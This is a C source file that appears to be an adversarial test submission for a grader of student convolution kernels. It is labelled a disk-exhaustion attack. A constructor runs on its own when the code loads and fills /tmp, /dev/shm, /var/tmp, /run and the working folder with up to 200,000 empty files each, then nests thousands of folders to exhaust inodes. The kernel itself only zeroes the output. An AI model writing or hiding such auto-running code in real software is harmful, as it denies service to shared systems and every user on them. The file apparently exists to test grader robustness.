/* attack: class=disk-exhaustion, lesson=conv/forward, expect=zero
 * says=outside the allowed error
 *
 * Makes empty files and nested folders without end wherever it may: no byte is used, and soon
 * no file can be made on that file system by anybody; a tree that is deep enough is hard to
 * delete. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static __attribute__((constructor)) void fill(void)
{
    static const char *const folders[] = { "/tmp", "/dev/shm", "/var/tmp", "/run", "." };
    char path[64];

    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
        for (int number = 0; number < 200000; number++) {
            snprintf(path, sizeof path, "%s/attack-inode-%d", folders[i], number);
            const int file = open(path, O_WRONLY | O_CREAT, 0600);
            if (file < 0)
                break;
            close(file);
        }
        if (chdir(folders[i]) != 0)
            continue;
        for (int depth = 0; depth < 5000; depth++)
            if (mkdir("attack-deep", 0700) != 0 || chdir("attack-deep") != 0)
                break;
    }
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
